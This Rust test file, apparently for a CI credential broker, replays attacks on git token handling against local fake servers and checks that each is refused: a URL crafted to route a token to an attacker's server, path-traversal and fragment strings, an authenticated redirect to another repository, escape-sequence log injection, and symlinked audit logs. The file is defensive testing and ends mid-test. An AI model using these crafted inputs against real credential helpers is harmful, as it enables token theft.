//! The attacks of a hostile dependency, a hostile server or another job on
//! the agent (issue 23), each against the built binary, real git (both
//! versions on the machine) and the git smart-HTTP server, with a fake token
//! of the real length. Each test names the attack it replays.

use std::path::{Path, PathBuf};
use std::process::Stdio;

use crate::support::git_server::{GitServer, create_repo, run_git};
use crate::support::{Bb, LONG_ACCESS_TOKEN, Run, assert_no_leak};

const TOKEN_USER: &str = "x-token-auth";

/// An agent with the classic `credential.helper=store` in its global config,
/// a Bitbucket-shaped server holding `acme/app` (and whatever the test adds)
/// that accepts the long token, and an attacker's server that accepts nothing
/// and records every `Authorization` it is sent.
struct Agent {
    root: tempfile::TempDir,
    server: GitServer,
    evil: GitServer,
    bb: Bb,
    git: PathBuf,
}

impl Agent {
    fn new(git: &Path) -> Self {
        let root = tempfile::tempdir().expect("tempdir");
        create_repo(root.path(), "acme/app", &[("README.md", b"app\n")]);
        let evil_root = root.path().join("evil-server");
        create_repo(&evil_root, "evil/x", &[("README.md", b"evil\n")]);
        let evil = GitServer::builder(&evil_root).git(git).start();
        let server = GitServer::builder(root.path())
            .user(TOKEN_USER, LONG_ACCESS_TOKEN)
            .git(git)
            .start();
        let bb = Bb::new()
            .env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN)
            .env("RUST_LOG", "debug");
        std::fs::write(
            bb.home().join(".gitconfig"),
            "[credential]\n\thelper = store\n[user]\n\tname = CI\n\temail = ci@example.invalid\n[init]\n\tdefaultBranch = main\n[protocol \"file\"]\n\tallow = always\n",
        )
        .expect("gitconfig");
        Self {
            root,
            server,
            evil,
            bb,
            git: git.to_path_buf(),
        }
    }

    /// An agent with the first git on `PATH`.
    fn first() -> Self {
        Self::new(&crate::support::gits_on_path()[0])
    }

    fn exec(&self, extra: &[&str], script: &str) -> Run {
        let url = self.server.url();
        let output = self
            .bb
            .command()
            .args(["exec", "--no-preflight", "--git-url", &url])
            .args(extra)
            .args(["--", "sh", "-c", script])
            .env("GIT", &self.git)
            .stdin(Stdio::null())
            .output()
            .expect("run");
        Run::from(output)
    }

    /// No form of the token reached the attacker, the output, any file, or
    /// `~/.git-credentials`.
    fn assert_nothing_reached_the_attacker(&self, run: &Run, what: &str) {
        let seen = self.evil.authorizations();
        assert!(
            seen.iter().all(|a| !a.contains(LONG_ACCESS_TOKEN)),
            "{what}: {}: the attacker's server received the token\n{}",
            self.git.display(),
            run.describe()
        );
        assert!(
            !self.bb.home().join(".git-credentials").exists(),
            "{what}: ~/.git-credentials was written"
        );
        assert_no_leak(
            run,
            self.bb.dir.path(),
            LONG_ACCESS_TOKEN,
            &[TOKEN_USER],
            &[],
        );
    }
}

/// The hostile URL of issue 23 §1: git authenticates to the attacker's host,
/// while a URL parser reading git's prompt sees the allowed one.
fn confusing_url(allowed_port: u16, evil: &GitServer) -> String {
    format!(
        "http://127.0.0.1%3A{allowed_port}%5Cacme%5Capp.git%23@127.0.0.1:{}/evil/x.git",
        evil.port()
    )
}

/// A superproject `acme/app` whose `.gitmodules` names `url`, pushed to `root`.
fn superproject_with(root: &Path, url: &str) {
    let work = tempfile::tempdir().expect("tempdir");
    run_git(work.path(), &["init", "--quiet", "--initial-branch=main"]);
    let lib = create_repo(root, "acme/lib", &[("README.md", b"lib\n")]);
    let sha = run_git(&lib, &["rev-parse", "main"]);
    run_git(
        work.path(),
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{},lib", sha.trim()),
        ],
    );
    std::fs::write(
        work.path().join(".gitmodules"),
        format!("[submodule \"lib\"]\n\tpath = lib\n\turl = {url}\n"),
    )
    .expect("gitmodules");
    run_git(work.path(), &["add", ".gitmodules"]);
    run_git(work.path(), &["commit", "--quiet", "-m", "super"]);
    let bare = root.join("acme/app.git");
    run_git(
        work.path(),
        &[
            "push",
            "--quiet",
            "--force",
            bare.to_str().expect("utf8"),
            "main",
        ],
    );
}

#[test]
fn askpass_never_answers_a_prompt_that_names_the_allowed_host_only_in_its_user_name() {
    for git in crate::support::gits_on_path() {
        let agent = Agent::new(&git);
        let hostile = confusing_url(agent.server.port(), &agent.evil);
        // Any host the build fetches from may redirect there.
        let mirror_root = agent.root.path().join("mirror");
        std::fs::create_dir_all(&mirror_root).expect("mkdir");
        let mirror = GitServer::builder(&mirror_root)
            .git(&git)
            .redirect("/tools/x.git", &hostile)
            .start();
        superproject_with(agent.root.path(), &hostile);
        for sanitize in ["false", "true"] {
            let deliveries = [
                ("a direct URL", format!("\"$GIT\" ls-remote '{hostile}'")),
                (
                    "a redirect",
                    format!("\"$GIT\" ls-remote {}/tools/x.git", mirror.url()),
                ),
                (
                    "a submodule",
                    format!(
                        "rm -rf sub && \"$GIT\" clone -q {}/acme/app.git sub && \"$GIT\" -C sub submodule update --init",
                        agent.server.url()
                    ),
                ),
            ];
            for (what, script) in deliveries {
                let run = agent.exec(
                    &["--allow-repo", "acme/app"],
                    &format!(
                        "export GIT_CONFIG_PARAMETERS=\"'credential.sanitizeprompt'='{sanitize}'\"; {script}"
                    ),
                );
                let what = format!("{what}, sanitizePrompt={sanitize}");
                assert_ne!(run.code(), 0, "{what}: {}", run.describe());
                // The prompt reached askpass (git did not stop it first) and was refused.
                assert!(
                    run.stderr.contains("askpass: git's prompt names"),
                    "{what}: {}: {}",
                    git.display(),
                    run.describe()
                );
                agent.assert_nothing_reached_the_attacker(&run, &what);
            }
        }
        // The allowed repository still works through the same door.
        let ok = agent.exec(
            &["--allow-repo", "acme/app"],
            &format!(
                "\"$GIT\" -c credential.sanitizePrompt=false ls-remote {}/acme/app.git",
                agent.server.url()
            ),
        );
        assert_eq!(ok.code(), 0, "{}", ok.describe());
        agent.assert_nothing_reached_the_attacker(&ok, "the allowed repository");
    }
}

/// A second credential, for a partner's repository (issue 23 §4's config).
const PARTNER_TOKEN: &str = "ATATT3xFAKE-partner-token-0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000";

#[test]
fn a_path_that_needs_normalising_is_refused_never_resolved_into_an_allowed_repository() {
    let agent = Agent::first();
    let git = agent.git.clone();
    create_repo(agent.root.path(), "evil/x", &[("README.md", b"x\n")]);
    create_repo(agent.root.path(), "partner/lib", &[("README.md", b"lib\n")]);
    agent
        .server
        .users()
        .accept("x-bitbucket-api-token-auth", PARTNER_TOKEN);
    let config = "credentials:\n  - name: acme\n    kind: access_token\n    match: [acme]\n    secret_env: ACME_TOKEN\n  - name: partner\n    kind: api_token\n    match: [partner/lib]\n    secret_env: PARTNER_TOKEN\n";
    let config_path = agent.bb.file("bbinject.yaml", config.as_bytes(), 0o600);
    // One credential from the environment (every path routes to it), or the
    // config's two, routed by repository.
    let exec_with = |config: bool, script: &str| {
        let mut command = agent.bb.command();
        command.args(["exec", "--no-preflight", "--audit-log", "-", "--git-url"]);
        command.arg(agent.server.url());
        if config {
            command
                .env_remove("BITBUCKET_ACCESS_TOKEN")
                .env("ACME_TOKEN", LONG_ACCESS_TOKEN)
                .env("PARTNER_TOKEN", PARTNER_TOKEN)
                .args(["--config", &config_path.display().to_string()]);
        }
        let output = command
            .args(["--allow-repo", "acme/app", "--", "sh", "-c", script])
            .env("GIT", &git)
            .stdin(Stdio::null())
            .output()
            .expect("run");
        Run::from(output)
    };
    let exec = |script: &str| exec_with(true, script);
    let fill = |path: &str| {
        format!(
            "printf 'protocol=http\\nhost=127.0.0.1:{}\\npath=%s\\n\\n' '{path}' | \"$GIT\" credential fill",
            agent.server.port()
        )
    };
    // §3 (a query or fragment) and §4 (dot segments routed on the raw path).
    for path in [
        "evil/x.git/info/refs?/../../../../acme/app.git",
        "evil/x.git#/../../acme/app.git",
        "partner/lib/../../acme/app.git",
        "acme/app.git/../../evil/x.git",
        "acme/app.git/../../partner/lib.git",
        "acme/lib/../app.git",
        "acme%2Fapp.git",
        "/acme//app.git",
    ] {
        for config in [false, true] {
            let run = exec_with(config, &fill(path));
            assert!(
                !run.stdout.contains("password="),
                "{path} (config: {config}): a credential was given\n{}",
                run.describe()
            );
            assert!(
                run.stderr.contains("refused, never normalised"),
                "{path}: {}",
                run.describe()
            );
            assert!(
                run.stderr.contains("\"reason\":\"path-not-canonical\""),
                "{path}: the refusal is audited\n{}",
                run.describe()
            );
            assert_no_leak(
                &run,
                agent.bb.dir.path(),
                LONG_ACCESS_TOKEN,
                &[TOKEN_USER],
                &[],
            );
            assert_no_leak(
                &run,
                agent.bb.dir.path(),
                PARTNER_TOKEN,
                &["x-bitbucket-api-token-auth"],
                &[],
            );
        }
    }
    // The same through git itself: the URL's query reaches the helper's path.
    let run = exec_with(
        false,
        &format!(
            "\"$GIT\" ls-remote '{}/evil/x.git/info/refs?/../../../../acme/app.git'",
            agent.server.url()
        ),
    );
    assert_ne!(run.code(), 0, "{}", run.describe());
    assert!(
        agent.server.authorizations_for("evil/x").is_empty(),
        "{:?}",
        agent.server.authorizations()
    );
    // The allowed repository, named plainly, is answered with acme's token.
    let run = exec(&fill("acme/app.git"));
    assert!(run.stdout.contains("password="), "{}", run.describe());
    assert!(
        run.stderr.contains("\"repository\":\"acme/app\""),
        "{}",
        run.describe()
    );
}

#[test]
fn an_authenticated_retry_is_not_followed_to_another_repository() {
    for git in crate::support::gits_on_path() {
        let root = tempfile::tempdir().expect("tempdir");
        create_repo(root.path(), "acme/app", &[("README.md", b"app\n")]);
        create_repo(root.path(), "evil/x", &[("README.md", b"x\n")]);
        // The server itself (or whatever sits in front of it) sends the
        // authenticated retry of acme/app to evil/x on the same host: git
        // never asks the broker about evil/x.
        let server = GitServer::builder(root.path())
            .user(TOKEN_USER, LONG_ACCESS_TOKEN)
            .git(&git)
            .redirect_authenticated("/acme/app.git", "/evil/x.git")
            .start();
        let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
        let run = |extra: &[&str]| {
            let output = bb
                .command()
                .args(["exec", "--no-preflight", "--git-url"])
                .arg(server.url())
                .args(extra)
                .args(["--", "sh", "-c", "\"$GIT\" ls-remote \"$URL\""])
                .env("GIT", &git)
                .env("URL", format!("{}/acme/app.git", server.url()))
                .stdin(Stdio::null())
                .output()
                .expect("run");
            Run::from(output)
        };
        let allowed = run(&["--allow-repo", "acme/app"]);
        assert_ne!(allowed.code(), 0, "{}", allowed.describe());
        assert!(
            server.authorizations_for("evil/x").is_empty(),
            "{}: the redirect carried the credential to evil/x: {:?}\n{}",
            git.display(),
            server.authorizations(),
            allowed.describe()
        );
        assert_no_leak(
            &allowed,
            bb.dir.path(),
            LONG_ACCESS_TOKEN,
            &[TOKEN_USER],
            &[],
        );
    }
}

#[test]
fn a_huge_git_config_count_is_refused_before_anything_runs() {
    let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
    for count in ["18446744073709551615", "18446744073709551614", "100000"] {
        let marker = bb.path("ran");
        let output = bb
            .command()
            .env("GIT_CONFIG_COUNT", count)
            .args(["exec", "--no-preflight", "--", "touch"])
            .arg(&marker)
            .stdin(Stdio::null())
            .output()
            .expect("run");
        let run = Run::from(output);
        assert_eq!(run.code(), 2, "{count}: {}", run.describe());
        assert!(
            run.stderr.contains("GIT_CONFIG_COUNT") && !run.stderr.contains("panicked"),
            "{count}: {}",
            run.describe()
        );
        assert!(!marker.exists(), "{count}: the command ran");
    }
    // git reads an empty count as 0, and so does bbinject.
    let marker = bb.path("ran");
    let output = bb
        .command()
        .env("GIT_CONFIG_COUNT", "")
        .args(["exec", "--no-preflight", "--", "touch"])
        .arg(&marker)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let run = Run::from(output);
    assert_eq!(run.code(), 0, "{}", run.describe());
    assert!(marker.exists());
}

/// Waits until `done` holds, polling every 20 ms, for at most `secs`.
fn wait_until(what: &str, secs: u64, mut done: impl FnMut() -> bool) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    while !done() {
        assert!(
            std::time::Instant::now() < deadline,
            "timed out waiting for {what}"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// Collects a child's stream in the background, for a test to wait on.
fn collect(from: impl std::io::Read + Send + 'static) -> std::sync::Arc<std::sync::Mutex<Vec<u8>>> {
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let into = seen.clone();
    std::thread::spawn(move || {
        let mut from = from;
        let mut buf = [0u8; 4096];
        while let Ok(n) = std::io::Read::read(&mut from, &mut buf) {
            if n == 0 {
                break;
            }
            into.lock().expect("lock").extend_from_slice(&buf[..n]);
        }
    });
    seen
}

#[test]
fn a_rotated_secret_file_is_masked_before_git_asks_for_it() {
    let bb = Bb::new();
    let old = LONG_ACCESS_TOKEN.to_owned();
    let new = LONG_ACCESS_TOKEN.replace("FAKE", "NEWV");
    let token = bb.file("token", format!("{old}\n").as_bytes(), 0o600);
    let bb = bb
        .env("BITBUCKET_ACCESS_TOKEN_FILE", token.display().to_string())
        .env("RUST_LOG", "info");
    let [ready, print] = ["ready", "print"].map(|m| bb.path(m).display().to_string());
    // The build never runs git: it only prints the file once it changed.
    let script = format!(
        "touch {ready}; i=0; while [ ! -e {print} ] && [ $i -lt 1500 ]; do sleep 0.02; i=$((i+1)); done; \
         echo \"now=$(cat {token})\"",
        token = token.display()
    );
    let mut child = bb
        .command()
        .args(["exec", "--no-preflight", "--", "sh", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let stdout = collect(child.stdout.take().expect("stdout"));
    let stderr = collect(child.stderr.take().expect("stderr"));
    wait_until("the child to start", 60, || Path::new(&ready).exists());
    let next = bb.path("token.next");
    std::fs::write(&next, format!("{new}\n")).expect("write");
    std::fs::rename(&next, &token).expect("rename");
    // The broker reads the rotated file by itself (no git request), then the
    // build prints it.
    wait_until("the broker to read the rotated file", 10, || {
        String::from_utf8_lossy(&stderr.lock().expect("lock")).contains("serving its new value")
    });
    std::fs::write(&print, "").expect("print");
    let status = child.wait().expect("wait");
    wait_until("the output to end", 10, || {
        String::from_utf8_lossy(&stdout.lock().expect("lock")).contains("now=")
    });
    let run = Run {
        status: status.code(),
        stdout: String::from_utf8_lossy(&stdout.lock().expect("lock")).into_owned(),
        stderr: String::from_utf8_lossy(&stderr.lock().expect("lock")).into_owned(),
    };
    assert_eq!(run.code(), 0, "{}", run.describe());
    assert!(run.stdout.contains("now=****"), "{}", run.describe());
    std::fs::remove_file(&token).expect("rm token");
    assert_no_leak(&run, bb.dir.path(), &new, &[TOKEN_USER], &[]);
}

#[test]
fn a_process_left_behind_gets_nothing_once_the_command_exited() {
    let agent = Agent::first();
    let out = agent.bb.path("late.txt");
    // The command exits at once; what it leaves behind holds its output open,
    // waits until the command is gone (reaped by bbinject), then asks.
    let script = format!(
        "parent=$$; ( while kill -0 $parent 2>/dev/null; do sleep 0.02; done; \
         printf 'protocol=http\\nhost=127.0.0.1:{port}\\npath=acme/app.git\\n\\n' | \
         \"$GIT\" credential fill >{out} 2>&1; echo asked >>{out} ) & exit 0",
        port = agent.server.port(),
        out = out.display()
    );
    let run = agent.exec(&[], &script);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let late = std::fs::read_to_string(&out).unwrap_or_default();
    assert!(
        late.contains("asked"),
        "the late request ran: {late}\n{}",
        run.describe()
    );
    assert!(
        !late.contains("password="),
        "a process left behind got a credential after the command exited:\n{late}"
    );
    agent.assert_nothing_reached_the_attacker(&run, "a late request");
}

#[test]
fn an_audit_log_that_others_could_read_or_redirect_is_refused_before_the_command() {
    let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
    let marker = bb.path("ran");
    let exec = |log: &Path| {
        let output = bb
            .bounded(20)
            .args(["exec", "--no-preflight", "--audit-log"])
            .arg(log)
            .args(["--", "touch"])
            .arg(&marker)
            .stdin(Stdio::null())
            .output()
            .expect("run");
        Run::from(output)
    };
    // Another user pre-creates the path: as a link to a file they read, as a
    // file anyone may read or write, as a FIFO (open would never return).
    let target = bb.path("theirs.jsonl");
    let link = bb.path("link.jsonl");
    std::os::unix::fs::symlink(&target, &link).expect("symlink");
    let open = bb.file("open.jsonl", b"", 0o666);
    std::fs::set_permissions(&open, std::os::unix::fs::PermissionsExt::from_mode(0o666))
        .expect("chmod");
    let readable = bb.file("readable.jsonl", b"", 0o644);
    std::fs::set_permissions(
        &readable,
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .expect("chmod");
    let fifo = bb.path("fifo.jsonl");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo")
            .success()
    );
    let dir = bb.path("dir.jsonl");
    std::fs::create_dir(&dir).expect("mkdir");
    for (log, says) in [
        (&link, "symbolic link"),
        (&open, "other users may write"),
        (&readable, "other users may read"),
        (&fifo, "named pipe"),
        (&dir, "directory"),
    ] {
        let run = exec(log);
        assert_eq!(run.code(), 2, "{}: {}", log.display(), run.describe());
        assert!(
            run.stderr.contains("--audit-log") && run.stderr.contains(says),
            "{}: {}",
            log.display(),
            run.describe()
        );
        assert!(!marker.exists(), "{}: the command ran", log.display());
    }
    assert!(!target.exists(), "the link was followed");
    // A new file is created 0600; an existing one of ours, 0600, is appended to.
    let new = bb.path("new.jsonl");
    for _ in 0..2 {
        let run = exec(&new);
        assert_eq!(run.code(), 0, "{}", run.describe());
    }
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(&new).expect("stat").permissions(),
    );
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn unreadable_requests_are_audited_and_request_fields_are_printed_escaped() {
    let agent = Agent::first();
    // A request over the broker's limit, straight to its socket.
    let oversized = "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); \
         s.connect(os.environ[\"BBINJECT_SOCKET\"]); s.sendall(b\"capability=x\\n\" + b\"x=\" + b\"y\" * 20000 + b\"\\n\\n\"); s.recv(10)'";
    let run = agent.exec(&["--audit-log", "-"], oversized);
    assert!(
        run.stderr.contains("\"reason\":\"request-too-large\""),
        "{}",
        run.describe()
    );
    // A path with an escape sequence that would rewrite the previous log line.
    let script = format!(
        "printf 'protocol=http\\nhost=127.0.0.1:{}\\npath=evil/x\\033[2K\\033[1Aok granted.git\\n\\n' | \"$GIT\" credential fill",
        agent.server.port()
    );
    let run = agent.exec(&["--allow-repo", "acme/app", "--audit-log", "-"], &script);
    assert!(
        run.stderr.contains("refused credential"),
        "{}",
        run.describe()
    );
    assert!(
        !run.stderr.contains('\u{1b}'),
        "a raw escape reached the log: {:?}",
        run.stderr
    );
    assert!(
        run.stderr.contains("\"reason\":\"path-not-canonical\""),
        "{}",
        run.describe()
    );
}

/// A "proxy" that records every byte it is sent and answers nothing useful.
fn recording_proxy() -> (
    crate::support::background::Background,
    std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
) {
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let into = seen.clone();
    let server = crate::support::background::Background::serve(move |mut stream| {
        let into = into.clone();
        async move {
            use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
            let mut buf = vec![0u8; 65536];
            if let Ok(Ok(n)) =
                tokio::time::timeout(std::time::Duration::from_secs(2), stream.read(&mut buf)).await
            {
                into.lock().expect("lock").extend_from_slice(&buf[..n]);
            }
            let _ = stream
                .write_all(b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\n\r\n")
                .await;
        }
    });
    (server, seen)
}

#[test]
fn a_loopback_endpoint_never_goes_through_a_proxy() {
    let agent = Agent::first();
    let git = agent.git.clone();
    let (proxy, seen) = recording_proxy();
    let proxy_url = format!("http://{}", proxy.addr());
    let with_proxy = |command: &mut std::process::Command| {
        for name in ["http_proxy", "HTTPS_PROXY", "ALL_PROXY"] {
            command.env(name, &proxy_url);
        }
    };
    // The preflight (REST and git probes) against loopback endpoints.
    let mut check = agent.bb.command();
    check
        .args(["check", "--repo", "acme/app", "--retries", "0", "--git-url"])
        .arg(agent.server.url())
        .arg("--api-url")
        .arg(format!("{}/2.0", agent.evil.url()))
        .stdin(Stdio::null());
    with_proxy(&mut check);
    let check = Run::from(check.output().expect("run"));
    // exec's child git, with the proxy in its environment.
    let mut exec = agent.bb.command();
    exec.args(["exec", "--no-preflight", "--git-url"])
        .arg(agent.server.url())
        .args(["--", "sh", "-c", "\"$GIT\" ls-remote \"$URL\""])
        .env("GIT", &git)
        .env("URL", format!("{}/acme/app.git", agent.server.url()))
        .stdin(Stdio::null());
    with_proxy(&mut exec);
    let exec = Run::from(exec.output().expect("run"));
    assert_eq!(exec.code(), 0, "{}", exec.describe());
    let through = String::from_utf8_lossy(&seen.lock().expect("lock")).into_owned();
    assert!(
        through.is_empty(),
        "the proxy was sent:\n{through}\ncheck: {}\nexec: {}",
        check.describe(),
        exec.describe()
    );
    assert!(
        !agent.server.authorizations().is_empty(),
        "the git server was reached directly"
    );
}

#[test]
fn line_wrapped_base64_of_the_token_is_masked() {
    let bb = Bb::new();
    let token = bb.file("token", LONG_ACCESS_TOKEN.as_bytes(), 0o600);
    let bb = bb.env("BITBUCKET_ACCESS_TOKEN_FILE", token.display().to_string());
    let script = format!(
        "base64 {t}; echo; base64 -w 64 {t}; echo; printf 'x-token-auth:%s' \"$(cat {t})\" | base64; \
         echo; printf '%s\\r\\n' $(base64 -w 76 {t}); echo end",
        t = token.display()
    );
    let output = bb
        .command()
        .args(["exec", "--no-preflight", "--", "sh", "-c", &script])
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let run = Run::from(output);
    assert_eq!(run.code(), 0, "{}", run.describe());
    assert!(run.stdout.contains("end"), "{}", run.describe());
    std::fs::remove_file(&token).expect("rm token");
    assert_no_leak(&run, bb.dir.path(), LONG_ACCESS_TOKEN, &[TOKEN_USER], &[]);
}

#[test]
fn where_the_secrets_are_stays_off_the_command_line_and_out_of_the_build() {
    let agent = Agent::first();
    let git = agent.git.clone();
    let secrets = agent.bb.path("secrets");
    std::fs::create_dir(&secrets).expect("mkdir");
    std::fs::write(secrets.join("bitbucket_access_token"), LONG_ACCESS_TOKEN).expect("write");
    let config = agent.bb.file(
        "bbinject.yaml",
        b"credentials:\n  - name: acme\n    kind: access_token\n    secret_env: ACME_TOKEN\n",
        0o600,
    );
    let script = format!(
        "env | grep -c '^BBINJECT_CONFIG=\\|^BBINJECT_SECRETS_DIR=' ; \"$GIT\" ls-remote -q {}/acme/app.git >/dev/null && echo cloned",
        agent.server.url()
    );
    for (name, value, extra) in [
        ("BBINJECT_SECRETS_DIR", secrets.display().to_string(), None),
        (
            "BBINJECT_CONFIG",
            config.display().to_string(),
            Some(("ACME_TOKEN", LONG_ACCESS_TOKEN)),
        ),
    ] {
        let mut command = agent.bb.command();
        command
            .env_remove("BITBUCKET_ACCESS_TOKEN")
            .env(name, &value)
            .args(["exec", "--no-preflight", "--git-url"])
            .arg(agent.server.url())
            .args(["--", "sh", "-c", &script])
            .env("GIT", &git)
            .stdin(Stdio::null());
        if let Some((k, v)) = extra {
            command.env(k, v);
        }
        let run = Run::from(command.output().expect("run"));
        assert_eq!(run.code(), 0, "{name}: {}", run.describe());
        assert!(
            run.stdout.starts_with("0\n") && run.stdout.contains("cloned"),
            "{name} reached the build, or the credential did not work: {}",
            run.describe()
        );
    }
}

#[test]
fn consumed_secret_files_are_gone_before_the_build_starts() {
    let agent = Agent::first();
    let git = agent.git.clone();
    // A Jenkins `withCredentials` file binding: a private directory of ours.
    let binding = agent.bb.path("workspace@tmp");
    std::fs::create_dir(&binding).expect("mkdir");
    let token = binding.join("secretFiles-token");
    std::fs::write(&token, LONG_ACCESS_TOKEN).expect("write");
    let exec = |token: &Path| {
        let output = agent
            .bb
            .command()
            .env_remove("BITBUCKET_ACCESS_TOKEN")
            .env("BITBUCKET_ACCESS_TOKEN_FILE", token)
            .args(["exec", "--no-preflight", "--consume-secret-files", "--git-url"])
            .arg(agent.server.url())
            .args(["--", "sh", "-c"])
            .arg(format!(
                "test -e {} && echo still-there; \"$GIT\" ls-remote -q {}/acme/app.git >/dev/null && echo cloned",
                token.display(),
                agent.server.url()
            ))
            .env("GIT", &git)
            .stdin(Stdio::null())
            .output()
            .expect("run");
        Run::from(output)
    };
    let run = exec(&token);
    assert_eq!(run.code(), 0, "{}", run.describe());
    assert!(!run.stdout.contains("still-there"), "{}", run.describe());
    assert!(run.stdout.contains("cloned"), "{}", run.describe());
    assert!(!token.exists());
    agent.assert_nothing_reached_the_attacker(&run, "consumed");

    // A read-only mount (here: a directory we may not write to) cannot be
    // consumed: refused before the command, the file left as it was.
    let mount = agent.bb.path("mount");
    std::fs::create_dir(&mount).expect("mkdir");
    let mounted = mount.join("bitbucket_access_token");
    std::fs::write(&mounted, LONG_ACCESS_TOKEN).expect("write");
    std::fs::set_permissions(&mount, std::os::unix::fs::PermissionsExt::from_mode(0o555))
        .expect("chmod");
    let run = exec(&mounted);
    std::fs::set_permissions(&mount, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    assert_eq!(run.code(), 2, "{}", run.describe());
    assert!(
        run.stderr.contains("--consume-secret-files") && !run.stdout.contains("cloned"),
        "{}",
        run.describe()
    );
    assert!(mounted.exists());
    std::fs::remove_file(&mounted).expect("rm");
}

#[test]
fn a_secret_split_between_stdout_and_stderr_is_masked_in_one_log() {
    let bb = Bb::new();
    let token = bb.file("token", LONG_ACCESS_TOKEN.as_bytes(), 0o600);
    let bb = bb.env("BITBUCKET_ACCESS_TOKEN_FILE", token.display().to_string());
    let script = format!(
        "t=$(cat {}); printf %s \"$(printf %s \"$t\" | cut -c1-96)\"; \
         printf '%s\\n' \"$(printf %s \"$t\" | cut -c97-)\" >&2; echo end",
        token.display()
    );
    // As a CI runs it: stdout and stderr into one log file.
    let log = bb.path("build.log");
    let file = std::fs::File::create(&log).expect("log");
    let status = bb
        .command()
        .args(["exec", "--no-preflight", "--", "sh", "-c", &script])
        .stdin(Stdio::null())
        .stdout(file.try_clone().expect("clone"))
        .stderr(file)
        .status()
        .expect("run");
    let text = std::fs::read_to_string(&log).expect("read");
    assert_eq!(status.code(), Some(0), "{text}");
    assert!(text.contains("end") && text.contains("****"), "{text}");
    // Neither half is in the log (before, both were, one after the other).
    for half in [&LONG_ACCESS_TOKEN[..96], &LONG_ACCESS_TOKEN[96..]] {
        assert!(!text.contains(half), "{text}");
    }
    // With two pipes, --merge-output asks for the same.
    let output = bb
        .command()
        .args([
            "exec",
            "--no-preflight",
            "--merge-output",
            "--",
            "sh",
            "-c",
            &script,
        ])
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let merged = Run::from(output);
    assert_eq!(merged.code(), 0, "{}", merged.describe());
    assert!(merged.stdout.contains("****"), "{}", merged.describe());
    std::fs::remove_file(&token).expect("rm token");
    let run = Run {
        status: Some(0),
        stdout: text,
        stderr: String::new(),
    };
    assert_no_leak(&run, bb.dir.path(), LONG_ACCESS_TOKEN, &[TOKEN_USER], &[]);
    assert_no_leak(
        &merged,
        bb.dir.path(),
        LONG_ACCESS_TOKEN,
        &[TOKEN_USER],
        &[],
    );
}

#[test]
fn trace_logging_prints_bbinject_events_only() {
    let bb = Bb::new()
        .env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN)
        .env("RUST_LOG", "trace");
    let output = bb
        .command()
        .args(["check", "--repo", "acme/app", "--retries", "0"])
        .args([
            "--api-url",
            "http://127.0.0.1:9/2.0",
            "--git-url",
            "http://127.0.0.1:9",
        ])
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let run = Run::from(output);
    assert_eq!(run.code(), 5, "{}", run.describe());
    assert!(
        run.stderr.contains("request failed"),
        "bbinject's own events: {}",
        run.describe()
    );
    // hyper-util's and reqwest's own trace events (seen at RUST_LOG=trace before).
    for theirs in [
        "checkout waiting for idle connection",
        "Http::connect",
        "connecting to 127.0.0.1",
    ] {
        assert!(!run.stderr.contains(theirs), "{theirs}: {}", run.describe());
    }
}

#[test]
fn a_server_that_drips_its_answer_is_cut_off_at_the_probe_deadline() {
    let drip = crate::support::background::Background::serve(|mut stream| async move {
        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
        let mut buf = [0u8; 4096];
        let _ = stream.read(&mut buf).await;
        let head = b"HTTP/1.1 200 OK\r\ncontent-length: 100000\r\n\r\n";
        if stream.write_all(head).await.is_err() {
            return;
        }
        loop {
            if stream.write_all(b"x").await.is_err() {
                return;
            }
            tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        }
    });
    let url = format!("http://{}", drip.addr());
    let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
    let output = bb
        .bounded(60)
        .args([
            "check",
            "--repo",
            "acme/app",
            "--timeout",
            "2s",
            "--retries",
            "3",
        ])
        .args(["--deadline", "3s", "--api-url"])
        .arg(format!("{url}/2.0"))
        .args(["--git-url", &url])
        .output()
        .expect("run");
    let run = Run::from(output);
    assert_eq!(run.code(), 5, "{}", run.describe());
    assert!(
        run.stdout.contains("deadline of 3 s"),
        "the probe is cut off at its deadline: {}",
        run.describe()
    );
}

#[test]
fn a_token_in_the_user_name_slot_never_reaches_the_audit_log_or_an_error() {
    let agent = Agent::first();
    // The GitHub habit: the token as the URL's user name (no password, so
    // transfer.credentialsInUrl does not stop it), with the audit log in the
    // build log; askpass alone too (it refuses the user name, quoting it).
    let url = agent
        .server
        .url()
        .replace("http://", &format!("http://{LONG_ACCESS_TOKEN}@"));
    let run = agent.exec(
        &["--audit-log", "-"],
        &format!("\"$GIT\" ls-remote '{url}/acme/app.git'"),
    );
    assert!(run.stderr.contains("\"decision\""), "{}", run.describe());
    assert!(
        run.stderr.contains("token-shaped-user-sha256:"),
        "{}",
